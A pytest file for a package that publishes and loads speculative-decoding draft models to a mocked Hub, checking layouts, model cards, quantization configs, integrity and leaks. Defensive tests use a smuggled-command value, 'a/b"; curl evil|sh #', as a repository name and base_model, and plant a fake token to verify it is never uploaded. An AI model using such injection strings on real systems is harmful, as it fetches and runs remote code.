"""Push and load over real HTTP, by every route, with the package and without it; and everything that can go wrong."""

import copy
import json
import warnings
from pathlib import Path

import pytest
import torch
from huggingface_hub import HfApi, ModelCard, ModelCardData, snapshot_download
from safetensors.torch import load_file, save_file
from transformers import AutoConfig, AutoModel

import tiny
from dflash_hub import DFlashConfig, DFlashDraftModel, DFlashDraftSpec, load_draft, repository_dflash
from dflash_hub.publishing import PublishOptions, plan, publish
from dflash_hub.publishing import push as pushing
from dflash_hub.publishing.probe import digests
from paths import DATA, ROOT, TINY

# The drafts of these tests have full and sliding layers, of which some engines run all alike.
pytestmark = [
    pytest.mark.filterwarnings("ignore:Some layers slide:UserWarning"),
    pytest.mark.filterwarnings("ignore:Sliding layers are causal:UserWarning"),
]
TRAVELLING = sorted(path.name for path in ROOT.glob("*dflash.py"))
SLIDING = {"layer_types": ["sliding_attention", "full_attention"], "sliding_window": 8}

LOAD = """
    import json, sys
    hosts = set()
    sys.addaudithook(lambda event, args: event == "socket.connect" and hosts.add(args[1][0]))
    from transformers import AutoModel
    sys.path.insert(0, {root!r})
    from probe import digests
    model = AutoModel.from_pretrained({repo!r}, revision={revision!r}, trust_remote_code=True)
    print(json.dumps([type(model).__module__, digests(model), [*hosts]]))
"""


@pytest.fixture
def draft():
    return tiny.draft(tiny.target("qwen3"), **SLIDING)


def files(hub, repo_id: str, revision: str = "main") -> dict[str, bytes | None]:
    """Path -> content of a repository on the Hub (None for what lies in LFS)."""
    return {path: entry.data for path, entry in hub.state.repos["models", repo_id].resolve(revision).tree.items()}


def load_elsewhere(fresh_process, repo: str, revision: str | None = None, **env: str) -> tuple[str, dict]:
    """Load in a fresh process without our package: the module its class came from, and the tensors' digests.

    With telemetry left on, no host but the Hub is asked.
    """
    output = fresh_process(LOAD.format(root=str(ROOT / "publishing"), repo=repo, revision=revision), **env)
    module, found, hosts = json.loads(output.splitlines()[-1])
    assert {*hosts} <= {"127.0.0.1"}
    return module, found


def assert_whole(hub, repo_id: str, revision: str = "main") -> None:
    present = files(hub, repo_id, revision)
    assert {"config.json", "model.safetensors", "README.md", *TRAVELLING} <= set(present)
    for name in TRAVELLING:
        assert present[name] == (ROOT / name).read_bytes(), name
    assert present["custom_generate/generate.py"] == (ROOT / "custom_generate_dflash.py").read_bytes()


@pytest.mark.parametrize("layout", ["hub", "engines"])
def test_a_pushed_draft_loads_bit_equal_with_the_package_and_without(hub, repo_id, draft, layout, fresh_process):
    draft.push_to_hub(repo_id, layout=layout)
    assert_whole(hub, repo_id)
    ours = DFlashDraftModel.from_pretrained(repo_id)
    assert digests(ours) == digests(draft)
    assert ours.config == draft.config
    if layout == "hub":
        by_auto = AutoModel.from_pretrained(repo_id)  # no trust_remote_code: no code of the repository runs
        assert type(by_auto) is DFlashDraftModel
        assert type(AutoConfig.from_pretrained(repo_id)) is DFlashConfig
        code = f"from transformers import AutoModel; AutoModel.from_pretrained({repo_id!r}, trust_remote_code=False)"
        assert "contains custom code" in fresh_process(code, fails=True)
    module, found = load_elsewhere(fresh_process, repo_id)
    assert module.startswith("transformers_modules.")
    assert found == digests(draft)
    if layout == "hub":
        hub.state.log.clear()
        assert load_elsewhere(fresh_process, repo_id, HF_HUB_OFFLINE="1")[1] == digests(draft)
        assert hub.calls() == [], "it was in the cache"


@pytest.mark.parametrize("layout", ["hub", "engines"])
def test_a_draft_loaded_by_remote_code_generates_and_is_pushed_again_whole(
    hub, repo_id, draft, layout, fresh_process, tmp_path
):
    draft.card_metadata = {"base_model": "Qwen/Qwen3-4B", "license": "apache-2.0"}
    draft.push_to_hub(repo_id, layout=layout)
    target = tiny.target("qwen3")
    target.save_pretrained(tmp_path)
    expected = tiny.greedy(target, tiny.prompt(6), 20)[0].tolist()
    again = f"{repo_id}-again"
    output = fresh_process(
        f"""
        import torch
        from transformers import AutoModel, AutoModelForCausalLM
        draft = AutoModel.from_pretrained({repo_id!r}, trust_remote_code=True)
        target = AutoModelForCausalLM.from_pretrained({str(tmp_path)!r})
        ids = torch.tensor([{expected[:6]}])
        print(draft.spec_generate(target, ids, max_new_tokens=20)[0].tolist())
        mask = torch.ones_like(ids)
        kwargs = dict(assistant_model=draft, speculation_type="dflash", max_new_tokens=20)
        print(target.generate(ids, attention_mask=mask, **kwargs)[0].tolist())
        draft.push_to_hub({again!r}, layout={layout!r})
        """
    )
    assert [json.loads(line) for line in output.splitlines()[-2:]] == [expected, expected]
    assert_whole(hub, again)
    assert digests(DFlashDraftModel.from_pretrained(again)) == digests(draft)
    card = ModelCard.load(again)
    assert (card.data.base_model, card.data.license) == ("Qwen/Qwen3-4B", "apache-2.0")
    assert again in card.text


def test_remote_code_keeps_a_card_when_it_saves_and_refuses_other_layouts(draft, tmp_path, fresh_process):
    foreign = DATA / "published_configs" / "z-lab__gemma-4-26B-A4B-it-DFlash.json"
    draft.save_pretrained(tmp_path / "draft")
    (tmp_path / "saved").mkdir()
    (tmp_path / "saved" / "README.md").write_text("---\nlicense: mit\n---\nMy words\n")
    fresh_process(
        f"""
        from transformers import AutoModel
        draft = AutoModel.from_pretrained({str(tmp_path / "draft")!r}, trust_remote_code=True)
        draft.save_pretrained({str(tmp_path / "saved")!r})
        AutoModel.from_pretrained({str(tmp_path / "saved")!r}, trust_remote_code=True)
        try:
            type(draft.config).from_json_file({str(foreign)!r})
        except ValueError as error:
            assert "pip install dflash-hub" in str(error), error
        else:
            raise AssertionError("A layout that this code does not know was read")
        """
    )
    card = ModelCard.load(tmp_path / "saved" / "README.md")
    assert (card.text.strip(), card.data.license) == ("My words", "mit")
    assert digests(DFlashDraftModel.from_pretrained(tmp_path / "saved")) == digests(draft)


@pytest.mark.parametrize("loaded", ["hub", "engines"])
def test_a_draft_loaded_from_either_layout_is_pushed_again_whole_in_both(hub, repo_id, draft, loaded):
    draft.push_to_hub(repo_id, layout=loaded)
    again = f"{repo_id}-again"
    DFlashDraftModel.from_pretrained(repo_id).push_to_hub(again)
    for branch, model_type in (("main", "dflash"), ("engines", "qwen3")):
        assert_whole(hub, again, branch)
        assert json.loads(files(hub, again, branch)["config.json"])["model_type"] == model_type
        assert digests(DFlashDraftModel.from_pretrained(again, revision=branch)) == digests(draft)


@pytest.mark.quick
def test_a_published_layout_without_code_is_saved_as_a_whole_repository(tmp_path, fresh_process):
    DFlashDraftModel.from_pretrained(TINY / "draft").save_pretrained(tmp_path)
    whole = {"config.json", "model.safetensors", "README.md", "custom_generate", *TRAVELLING}
    assert whole == {path.name for path in tmp_path.iterdir()}
    _, found = load_elsewhere(fresh_process, str(tmp_path))
    assert found == digests(DFlashDraftModel.from_pretrained(TINY / "draft"))


def test_a_draft_in_the_engines_layout_does_not_take_the_place_of_qwen3_models(draft, tmp_path, fresh_process):
    """Nor is its class built from their config, which the package alone translates."""
    draft.save_pretrained(tmp_path, layout="engines")
    code = f"""
    from transformers import AutoModel, Qwen3Config
    draft = AutoModel.from_pretrained({str(tmp_path)!r}, trust_remote_code=True)
    try:
        type(draft)(Qwen3Config())
    except ValueError as error:
        assert "pip install dflash-hub" in str(error), error
    else:
        raise AssertionError("A config of Qwen3 was taken for a draft's")
    print(type(AutoModel.from_config(Qwen3Config(num_hidden_layers=1, hidden_size=8, vocab_size=8))).__name__)
    """
    assert fresh_process(code).strip().endswith("Qwen3Model")


@pytest.fixture(scope="module")
def engines_folder(tmp_path_factory):
    """A folder of a draft in the engines layout, whose code is imported once, and its config."""
    folder = tmp_path_factory.mktemp("engines") / "draft"
    tiny.draft(tiny.target("qwen3"), **SLIDING).save_pretrained(folder, layout="engines")
    return folder, json.loads((folder / "config.json").read_text())


@pytest.mark.parametrize(
    ("keyword", "removed"),
    [
        ({"block_size": 3}, ()),
        ({"rope_theta": 5.0}, ("rope_theta", "rope_parameters")),
        ({"block_size": 3}, ("block_size", "dflash_config.block_size")),
        ({"head_dim": 8}, ("head_dim",)),
        ({}, ("vocab_size",)),
    ],
)
def test_keywords_reach_the_engines_layout_through_automodel_and_no_default_of_qwen3_does(
    draft, keyword, removed, engines_folder
):
    folder, config = engines_folder
    config = copy.deepcopy(config)
    for place in removed:
        outer, _, inner = place.rpartition(".")
        (config[outer] if outer else config).pop(inner)
    (folder / "config.json").write_text(json.dumps(config))
    loaded = AutoModel.from_pretrained(folder, trust_remote_code=True, **keyword).config
    for name, value in keyword.items():
        assert (loaded.rope_parameters if name == "rope_theta" else loaded.to_dict())[name] == value
    assert loaded.vocab_size == (None if "vocab_size" in removed else draft.config.vocab_size)
    if removed and keyword:
        with pytest.raises(ValueError, match="supply it"):
            AutoModel.from_pretrained(folder, trust_remote_code=True)


def test_importing_the_package_after_the_remote_code_gives_our_class(hub, repo_id, draft, fresh_process):
    draft.push_to_hub(repo_id)
    code = f"""
    from transformers import AutoModel
    import dflash_hub
    for trust in (None, False, True):
        assert type(AutoModel.from_pretrained({repo_id!r}, trust_remote_code=trust)) is dflash_hub.DFlashDraftModel
    assert not any(name.startswith("transformers_modules.") for name in sys.modules)
    """
    fresh_process("import sys\n" + code.replace("\n    ", "\n"), block=False)


def test_shards_load_and_a_later_push_leaves_none_of_them_behind(hub, repo_id, draft):
    draft.push_to_hub(repo_id, max_shard_size="20KB")
    assert "model.safetensors.index.json" in files(hub, repo_id)
    assert digests(AutoModel.from_pretrained(repo_id)) == digests(draft)
    with torch.no_grad():
        draft.fc.weight.add_(1)
    draft.push_to_hub(repo_id)
    assert [path for path in files(hub, repo_id) if "safetensors" in path] == ["model.safetensors"]
    assert digests(AutoModel.from_pretrained(repo_id)) == digests(draft)


@pytest.mark.quick
def test_a_revision_pins_weights_and_config(hub, repo_id, draft):
    first = draft.push_to_hub(repo_id).oid
    before = digests(draft)
    with torch.no_grad():
        draft.fc.weight.add_(1)
    draft.push_to_hub(repo_id)
    assert digests(AutoModel.from_pretrained(repo_id, revision=first)) == before
    assert digests(AutoModel.from_pretrained(repo_id)) == digests(draft)
    draft.push_to_hub(repo_id, revision="side")
    assert digests(AutoModel.from_pretrained(repo_id, revision="side")) == digests(draft)
    spec = DFlashDraftSpec(repo_id, revision=first)
    assert digests(spec.load()) == before


# Publishing ------------------------------------------------------------------------------------------------------


def test_publish_puts_the_hub_layout_on_main_and_the_engines_layout_on_its_branch(
    hub, repo_id, fresh_process, forked_probe, apart
):
    """One layout is checked in a process that is new, as both are on users' machines."""
    apart.add("engines")
    options = PublishOptions(card={"base_model": "tester/tiny-target", "license": "apache-2.0"})
    steps: list[str] = []
    done = publish(TINY / "draft", repo_id, options, report=steps.append)
    assert len(steps) == 5
    assert_whole(hub, repo_id)
    assert_whole(hub, repo_id, "engines")
    assert json.loads(files(hub, repo_id)["config.json"])["model_type"] == "dflash"
    engines = json.loads(files(hub, repo_id, "engines")["config.json"])
    assert (engines["model_type"], engines["auto_map"]) == ("qwen3", {"AutoModel": "dflash.DFlashDraftModel"})
    assert "dflash.py" in files(hub, repo_id, "engines")
    published = digests(DFlashDraftModel.from_pretrained(TINY / "draft"))
    for revision in ("main", "engines", done.commit, done.engines_commit):
        assert digests(DFlashDraftModel.from_pretrained(repo_id, revision=revision)) == published
    for revision in (done.commit, "engines"):
        assert load_elsewhere(fresh_process, repo_id, revision)[1] == published
    scope: dict = {}
    exec(done.snippet, scope)
    assert digests(scope["draft"]) == published
    assert done.commit in done.snippet


def code_shown(data: dict) -> list[str]:
    """What the Hub shows beside a model with this metadata, after huggingface.js: snippets and commands of engines."""
    tags = {*(data.get("tags") or ()), data.get("library_name")}
    shown = ["AutoModel"] if "transformers" in tags else []
    if data.get("pipeline_tag") == "text-generation" or "text-generation" in tags:
        shown += ["pipeline", "vllm serve", "sglang"] if shown else ["vllm serve, if quantised"]
    return shown


def test_the_card_says_what_there_is_to_say(hub, repo_id):
    draft = DFlashDraftModel.from_pretrained(TINY / "draft")
    draft.card_metadata = {"base_model": "org/target", "license": "mit", "language": ["en", "de"], "thinking": "off"}
    draft.push_to_hub(repo_id)
    card = ModelCard.load(repo_id)
    data = card.data.to_dict()
    expected = {"base_model": "org/target", "license": "mit", "language": ["en", "de"], "library_name": "dflash-hub"}
    assert {key: data[key] for key in expected} == expected
    assert not {"thinking", "pipeline_tag"} & data.keys()
    assert code_shown(data) == []
    assert {"dflash", "speculative-decoding", "draft-model", "custom_generate"} <= set(data["tags"])
    words = (repo_id, "org/target", "vllm serve", "sglang", "import dflash_hub", "block size | 8", "1, 2, 4")
    for text in (*words, "| non-thinking; en, de |", "Nothing yet: no acceptance length"):
        assert text in card.text, text
    assert "your-name/your-draft" not in card.text
    gap = "Not stated yet, for the author to fill in: the data that it was trained on (`datasets`)."
    assert gap in card.text
    draft.card_metadata = {"thinking": "maybe"}
    with pytest.raises(ValueError, match="thinking is 'maybe'; it must be one of on, off, both"):
        draft.push_to_hub(repo_id)


@pytest.mark.parametrize("has_package", [True, False])
def test_code_that_fails_for_a_draft_is_not_shown_beside_it(draft, tmp_path, monkeypatch, caplog, has_package):
    """Metadata of a card that is there is replaced, unless the owner has just chosen it."""
    monkeypatch.setattr(repository_dflash.logger.parent, "propagate", True)
    if not has_package:
        monkeypatch.setattr(repository_dflash.EXTENSIONS, "write_card", None)
    misleading = {"library_name": "transformers", "pipeline_tag": "text-generation", "tags": ["mine", "transformers"]}
    data = ModelCardData(**misleading)
    assert code_shown(data.to_dict()) == ["AutoModel", "pipeline", "vllm serve", "sglang"]
    draft.write_card(tmp_path, ModelCard(f"---\n{data}\n---\nMine"))
    found = ModelCard.load(tmp_path / "README.md").data
    assert code_shown(found.to_dict()) == []
    assert found.tags[0] == "mine"
    assert "pipeline_tag: text-generation, the tag transformers. The Hub would show" in caplog.text
    draft.card_metadata = misleading
    draft.write_card(tmp_path, ModelCard(f"---\n{data}\n---\nMine"))
    assert code_shown(ModelCard.load(tmp_path / "README.md").data.to_dict())


def test_an_existing_card_is_kept_and_its_metadata_completed(hub, repo_id, draft):
    draft.card_metadata = {"base_model": "org/target"}
    HfApi().create_repo(repo_id)
    words = b"---\nlicense: mit\ntags: [mine]\n---\n# My words\n"
    HfApi().upload_file(path_or_fileobj=words, path_in_repo="README.md", repo_id=repo_id)
    draft.push_to_hub(repo_id)
    card = ModelCard.load(repo_id)
    assert card.text.strip() == "# My words"
    assert (card.data.license, card.data.base_model) == ("mit", "org/target")
    assert card.data.tags == ["mine", "dflash", "speculative-decoding", "draft-model", "custom_generate"]


def test_what_is_said_of_a_draft_corrects_the_card_on_the_hub(hub, repo_id, draft):
    for license in ("apache-2.0", "mit"):
        draft.card_metadata = {"license": license}
        draft.push_to_hub(repo_id)
        assert ModelCard.load(repo_id).data.license == license


def test_a_layout_that_cannot_be_written_makes_no_repository(hub, repo_id, draft):
    draft.config.vocab_size = None
    for layout in ("engines", "vllm"):
        with pytest.raises(ValueError, match=r"vocab_size|layout"):
            draft.push_to_hub(repo_id, layout=layout)
    assert hub.calls() == []


@pytest.mark.parametrize("scale", [1.0, 2.5])
def test_what_an_engine_does_not_read_is_named_by_the_push_and_on_the_card(hub, repo_id, scale, monkeypatch):
    """SGLang knows no scale of the embeddings; nothing is said of a draft that has none."""
    monkeypatch.setattr(pushing, "check_staged", lambda draft, folder: None)  # tested above, and slow
    draft = tiny.draft(tiny.target("qwen3"), input_embedding_scale=scale, **tiny.SECOND)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        draft.push_to_hub(repo_id, layouts=["hub"])
        before = [str(warning.message) for warning in caught]
        draft.push_to_hub(repo_id, layout="engines", revision="engines")
    remark = "input_embedding_scale is 2.5, which SGLang (0.5.23) does not read"
    assert not [message for message in before if "SGLang" in message]
    assert sum(remark in str(warning.message) for warning in caught) == (scale != 1)
    assert (remark in ModelCard.load(repo_id).text) == (scale != 1)
    assert "\n\n\n" not in ModelCard.load(repo_id).text


def test_publishing_names_what_an_engine_does_not_read(hub, repo_id, tmp_path, monkeypatch):
    monkeypatch.setattr(pushing, "check_staged", lambda draft, folder: None)
    tiny.draft(tiny.target("qwen3"), input_embedding_scale=2.5, **tiny.SECOND).save_pretrained(tmp_path)
    with pytest.warns(UserWarning, match="SGLang") as caught:
        publish(tmp_path, repo_id)
    assert sum("SGLang" in str(warning.message) for warning in caught) == 1
    assert b"SGLang (0.5.23) does not read" in files(hub, repo_id, "engines")["README.md"]


QUANTISED = {
    "compressed-tensors": {"quant_method": "compressed-tensors", "format": "float-quantized", "config_groups": {}},
    "gptq": {"quant_method": "gptq", "bits": 4},
    "modelopt": {"quant_algo": "NVFP4", "producer": {"name": "modelopt"}},
    "empty": {},
}


def inherit(folder, quantization: dict) -> None:
    """Write a `quantization_config` into the config.json of a draft."""
    content = json.loads((folder / "config.json").read_text())
    content["quantization_config"] = quantization
    (folder / "config.json").write_text(json.dumps(content))


@pytest.mark.parametrize(
    ("layout", "method"),
    [("hub", "compressed-tensors"), ("engines", "gptq"), ("hub", "modelopt"), ("engines", "empty")],
)
def test_a_quantization_config_of_the_target_is_ignored_where_no_tensor_is_quantised(draft, tmp_path, layout, method):
    draft.to(torch.bfloat16).save_pretrained(tmp_path, layout=layout, max_shard_size="20KB")
    assert len([*tmp_path.glob("*.safetensors")]) > 1
    inherit(tmp_path, QUANTISED[method])
    ways = (
        lambda: DFlashDraftModel.from_pretrained(tmp_path, block_size=3),
        lambda: DFlashDraftSpec(tmp_path).load(block_size=3),
        lambda: load_draft(tmp_path, block_size=3),
        lambda: DFlashDraftModel.from_pretrained(tmp_path, config=DFlashConfig.from_pretrained(tmp_path, block_size=3)),
    )
    for load in ways:
        with pytest.warns(UserWarning, match=r"has quantization_config \({.*none of its tensors is quantised"):
            loaded = load()
        assert digests(loaded) == digests(draft)
        assert not hasattr(loaded.config, "quantization_config")
        assert (loaded.config.block_size, loaded.dtype) == (3, torch.bfloat16)


def test_a_draft_on_the_hub_with_the_targets_quantization_config_loads_and_is_pushed_without_it(
    hub, repo_id, draft, tmp_path
):
    draft.save_pretrained(tmp_path)
    inherit(tmp_path, QUANTISED["gptq"])
    HfApi().create_repo(repo_id)
    HfApi().upload_folder(repo_id=repo_id, folder_path=tmp_path)
    with pytest.warns(UserWarning, match="none of its tensors is quantised"):
        loaded = AutoModel.from_pretrained(repo_id)
    assert digests(loaded) == digests(draft)
    loaded.push_to_hub(repo_id)
    assert "quantization_config" not in json.loads(files(hub, repo_id)["config.json"])


@pytest.mark.parametrize("dtype", [torch.int8, torch.float8_e4m3fn])
def test_a_draft_with_a_quantised_tensor_keeps_its_quantization_config(draft, tmp_path, dtype):
    """Without the config, the tensor would be cast. No group of this one says how it is quantised."""
    draft.save_pretrained(tmp_path)
    inherit(tmp_path, {"quant_method": "compressed-tensors", "config_groups": {}})
    weights = load_file(tmp_path / "model.safetensors")
    weights["layers.0.mlp.up_proj.weight"] = weights["layers.0.mlp.up_proj.weight"].to(dtype)
    save_file(weights, tmp_path / "model.safetensors", {"format": "pt"})
    with pytest.raises((ImportError, ValueError), match=r"compressed-tensors|no config_groups"):
        DFlashDraftModel.from_pretrained(tmp_path)


def test_damaged_weights_in_a_folder_say_so(draft, tmp_path):
    draft.save_pretrained(tmp_path)
    whole = (tmp_path / "model.safetensors").read_bytes()
    (tmp_path / "model.safetensors").write_bytes(whole[:-100])
    with pytest.raises(OSError, match=r"weights of .* are damaged"):
        DFlashDraftModel.from_pretrained(tmp_path)
    (tmp_path / "config.json").unlink()
    with pytest.raises(OSError, match=r"config\.json"):
        DFlashDraftModel.from_pretrained(tmp_path)


def test_a_card_in_the_folder_is_kept(hub, repo_id, tmp_path, monkeypatch):
    monkeypatch.setattr(pushing, "check_staged", lambda draft, folder: None)  # tested above, and slow
    DFlashDraftModel.from_pretrained(TINY / "draft").save_pretrained(tmp_path)
    (tmp_path / "README.md").write_text("---\nlicense: mit\n---\nMy words\n")
    publish(tmp_path, repo_id)
    assert ModelCard.load(repo_id).text.strip() == "My words"
    assert ModelCard.load(repo_id).data.library_name == "dflash-hub"


def test_what_does_not_load_bit_equal_in_a_fresh_process_is_never_pushed(hub, repo_id, monkeypatch, forked_probe):
    def spoil(draft, folder, layout, card, stage=pushing.stage):
        stage(draft, folder, layout, card)
        (folder / "cache_dflash.py").write_text("raise RuntimeError('spoilt')\n")

    monkeypatch.setattr(pushing, "stage", spoil)
    with pytest.raises(ValueError, match=r"(?s)does not load in a fresh process.*spoilt"):
        publish(TINY / "draft", repo_id)
    assert {method for method, _, _ in hub.calls()} == {"GET"}  # the destination was asked, and nothing written


SECRET = "hf_a_secret_of_the_owner"
LEAK = ".eval_results/leak.yaml"


@pytest.fixture
def crowded(tmp_path):
    """A folder with a draft, and with more than a draft; and the path of a secret outside it."""
    folder, secret = tmp_path / "draft", tmp_path / "secret.txt"
    secret.write_text(SECRET)
    tiny.draft(tiny.target("qwen3")).save_pretrained(folder)
    (folder / "plot.png").write_bytes(b"\x89PNG\r\n\x1a\n and so on")
    (folder / "leak.png").symlink_to(secret)
    (folder / "notes.png").write_text(SECRET)
    (folder / "optimizer.pt").write_text(SECRET)
    (folder / ".env").write_text(SECRET)
    (folder / "extra.py").write_text(f"TOKEN = {SECRET!r}")
    (folder / "runs").mkdir()
    (folder / ".eval_results").mkdir()
    (folder / ".eval_results" / "own.yaml").write_text("[]")
    (folder / ".eval_results" / "leak.yaml").symlink_to(secret)
    (folder / "README.md").unlink()
    (folder / "README.md").symlink_to(secret)
    return folder


def test_only_a_drafts_own_files_are_published_and_no_link_is_followed(hub, repo_id, crowded, monkeypatch):
    monkeypatch.setattr(pushing, "check_staged", lambda draft, folder: None)
    done = publish(crowded, repo_id)
    for branch in ("main", "engines"):
        published = files(hub, repo_id, branch)
        assert {"plot.png", ".eval_results/own.yaml"} <= set(published)
        assert not {"leak.png", "notes.png", "optimizer.pt", ".env", "extra.py", "runs", LEAK} & set(published)
        assert not [name for name, content in published.items() if content and SECRET.encode() in content]
    reasons = {one.name: one.reason for one in done.left_out}
    assert set(reasons) == {".env", "README.md", "extra.py", "leak.png", "notes.png", "optimizer.pt", "runs/", LEAK}
    assert "a link" in reasons["leak.png"]
    assert "a link" in reasons["README.md"]
    assert "does not begin as such a picture" in reasons["notes.png"]


def test_a_plan_lists_the_files_of_both_branches_with_their_sizes_and_writes_nothing(
    hub, repo_id, crowded, monkeypatch
):
    monkeypatch.setattr(pushing, "check_staged", lambda draft, folder: None)
    found = plan(crowded, repo_id)
    assert found.repo_id == repo_id
    assert set(found.files) == {"main", "engines"}
    for sizes in found.files.values():
        assert {"config.json", "model.safetensors", "README.md", "plot.png", *TRAVELLING} <= set(sizes)
        assert sizes["model.safetensors"] == (crowded / "model.safetensors").stat().st_size
    assert {method for method, _, _ in hub.calls()} == {"GET"}


def test_a_link_of_the_hubs_own_cache_is_a_file_of_its_folder(hub, repo_id, draft, monkeypatch):
    draft.push_to_hub(repo_id, layouts=["hub"])
    folder = snapshot_download(repo_id)
    assert (Path(folder) / "README.md").is_symlink()
    monkeypatch.setattr(pushing, "check_staged", lambda draft, folder: None)
    assert "README.md" not in {one.name for one in publish(folder, f"{repo_id}-2").left_out}


def test_a_draft_is_pushed_in_both_layouts_unless_one_is_chosen(hub, repo_id, draft):
    draft.push_to_hub(repo_id)
    config = json.loads(files(hub, repo_id, "engines")["config.json"])
    assert config["model_type"] == "qwen3"
    assert_whole(hub, repo_id)
    draft.push_to_hub(f"{repo_id}-1", layouts=["hub"])
    assert set(hub.state.repos["models", f"{repo_id}-1"].branches) == {"main"}
    draft.push_to_hub(f"{repo_id}-2", revision="mine")
    assert "mine" in hub.state.repos["models", f"{repo_id}-2"].branches
    with pytest.raises(ValueError, match="revision and create_pr name one branch"):
        draft.push_to_hub(repo_id, layouts=["hub", "engines"], revision="mine")


@pytest.mark.parametrize("private", [None, True])
def test_private_towards_a_public_repository_is_refused_before_anything_is_written(hub, repo_id, draft, private):
    HfApi().create_repo(repo_id, private=False)
    before = len(hub.calls())
    if private is None:
        draft.push_to_hub(repo_id, private=private)
        return
    for push in (lambda: draft.push_to_hub(repo_id, private=True), lambda: publish_private(repo_id)):
        with pytest.raises(ValueError, match=r"exists and is public.*Make the repository private first.*another name"):
            push()
    assert {method for method, _, _ in hub.calls()[before:]} == {"GET"}
    draft.push_to_hub(f"{repo_id}-new", private=True)
    draft.push_to_hub(f"{repo_id}-new", private=True)


def publish_private(repo_id):
    publish(TINY / "draft", repo_id, PublishOptions(private=True))


@pytest.mark.parametrize(
    ("name", "complaint"),
    [
        ('a/b"; curl evil|sh #', "cannot be named"),
        ("a/b/c", "cannot be named"),
        ("", "cannot be named|name of a repository"),
        (None, "cannot be named|name of a repository"),
        ("somebody-else/draft", "The token is of tester, who cannot write to somebody-else/draft"),
    ],
)
def test_a_destination_that_cannot_be_is_refused_before_staging(hub, draft, name, complaint, monkeypatch):
    monkeypatch.setattr(pushing, "stage", lambda *args: pytest.fail("staged"))
    for push in (lambda: draft.push_to_hub(name), lambda: publish(TINY / "draft", name)):
        with pytest.raises((ValueError, RuntimeError), match=complaint):
            push()


@pytest.mark.parametrize(
    ("content", "complaint"),
    [
        (b"---\nlicense: [mit\n---\nWords", r"metadata of .*README.md.* cannot be read"),
        ("---\nlicense: mit\n---\nÄ".encode("latin-1"), r"README.md is not written in UTF-8"),
        (b"---\nmodel-index:\n- name: x\n  results:\n  - task:\n      type: a\n---\nWords", r"metadata of .*README.md"),
    ],
    ids=["broken YAML", "latin-1", "a model-index without a dataset"],
)
def test_a_card_that_cannot_be_read_is_named_and_nothing_is_written(hub, repo_id, tmp_path, content, complaint):
    tiny.draft(tiny.target("qwen3")).save_pretrained(tmp_path)
    (tmp_path / "README.md").write_bytes(content)
    with pytest.raises(ValueError, match=complaint):
        publish(tmp_path, repo_id)
    assert {method for method, _, _ in hub.calls()} == {"GET"}
    assert (tmp_path / "README.md").read_bytes() == content


EVIL = 'a/b"; curl evil|sh #'


def test_a_target_that_is_no_hub_id_reaches_no_line_of_code_of_the_card(hub, repo_id, draft, tmp_path, caplog):
    draft.card_metadata = {"base_model": EVIL}
    with pytest.raises(ValueError, match=r"base_model is .* which is not the Hub id of a model"):
        draft.push_to_hub(repo_id)
    draft.card_metadata = {}
    draft.save_pretrained(tmp_path)
    (tmp_path / "README.md").write_text(f"---\nbase_model: '{EVIL}'\nlicense: mit\n---\nBuy this\n")
    DFlashDraftModel.from_pretrained(tmp_path).push_to_hub(repo_id)
    card = (files(hub, repo_id)["README.md"] or b"").decode()
    assert "curl" not in card
    assert "license: mit" in card
    assert "it is left out" in caplog.text


@pytest.mark.parametrize("layout", ["hub", "engines"])
def test_an_entry_that_names_the_code_of_another_repository_is_not_passed_on(hub, repo_id, draft, tmp_path, layout):
    draft.save_pretrained(tmp_path, layout=layout)
    content = json.loads((tmp_path / "config.json").read_text())
    content["auto_map"]["AutoTokenizer"] = ["other/repo--tokenization.Tokenizer", None]
    (tmp_path / "config.json").write_text(json.dumps(content))
    DFlashDraftModel.from_pretrained(tmp_path).push_to_hub(repo_id)
    for branch in ("main", "engines"):
        written = json.loads(files(hub, repo_id, branch)["config.json"])["auto_map"]
        assert set(written) <= {"AutoConfig", "AutoModel"}
        assert not [value for value in written.values() if "--" in value]


# What can go wrong -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fault", "left"),
    [
        ("POST .*/commit/main", set()),
        ("POST .*/commit/engines", {"main"}),
    ],
)
def test_a_failing_server_leaves_whole_commits_or_none_and_a_second_try_completes(
    hub, repo_id, fault, left, monkeypatch
):
    """`test_hub_faults.py` has more faults, at other requests."""
    monkeypatch.setattr(pushing, "check_staged", lambda draft, folder: None)  # tested above, and slow
    hub.state.fail[fault] = 501  # the client would try 500 again and again, for half a minute
    with pytest.raises(RuntimeError, match=r"(?s)did not take the upload.*Run the same again"):
        publish(TINY / "draft", repo_id)
    whole = {"main": "config.json" in files(hub, repo_id)}
    assert whole["main"] == ("main" in left)
    if whole["main"]:
        assert_whole(hub, repo_id)
    hub.state.fail.clear()
    publish(TINY / "draft", repo_id)
    for revision in ("main", "engines"):
        assert_whole(hub, repo_id, revision)


def test_bytes_that_do_not_match_their_hash_are_refused_and_not_kept(hub, repo_id, draft):
    draft.push_to_hub(repo_id)
    ((sha, good),) = hub.state.lfs.items()
    hub.state.lfs[sha] = good[:-1] + bytes([good[-1] ^ 1])
    for _ in range(2):  # the second time it is downloaded again, not taken from the cache
        with pytest.raises(OSError, match=r"model\.safetensors of .* arrived damaged.*load again"):
            DFlashDraftModel.from_pretrained(repo_id)
    hub.state.lfs[sha] = good
    assert digests(DFlashDraftModel.from_pretrained(repo_id)) == digests(draft)


@pytest.mark.parametrize("load", [DFlashDraftModel.from_pretrained, load_draft], ids=["from_pretrained", "load_draft"])
def test_a_config_that_does_not_match_its_hash_is_refused_and_not_kept(hub, repo_id, draft, load):
    """It is a valid one, of another draft."""
    draft.push_to_hub(repo_id)
    entry = hub.state.repos["models", repo_id].resolve("main").tree["config.json"]
    good, entry.data = entry.data, entry.data.replace(b'"sliding_window": 8', b'"sliding_window": 9')
    assert entry.data != good
    for _ in range(2):
        with pytest.raises(OSError, match=r"config\.json of .* arrived damaged: its hash of git is .*load again"):
            load(repo_id)
    entry.data = good
    assert load(repo_id).config.sliding_window == 8


def test_a_download_that_breaks_off_leaves_nothing_that_loads(hub, repo_id, draft):
    draft.push_to_hub(repo_id)
    hub.state.fail["GET /_lfs/"] = 404
    with pytest.raises(Exception, match=r"404|does not appear|couldn't connect|Can't load"):
        DFlashDraftModel.from_pretrained(repo_id)
    hub.state.fail.clear()
    assert digests(DFlashDraftModel.from_pretrained(repo_id)) == digests(draft)


def test_a_trained_mask_embedding_beside_the_weights_is_refused(hub, repo_id, draft, tmp_path):
    draft.save_pretrained(tmp_path)
    (tmp_path / "mask_embedding.pt").write_bytes(b"anything")
    draft.push_to_hub(repo_id)
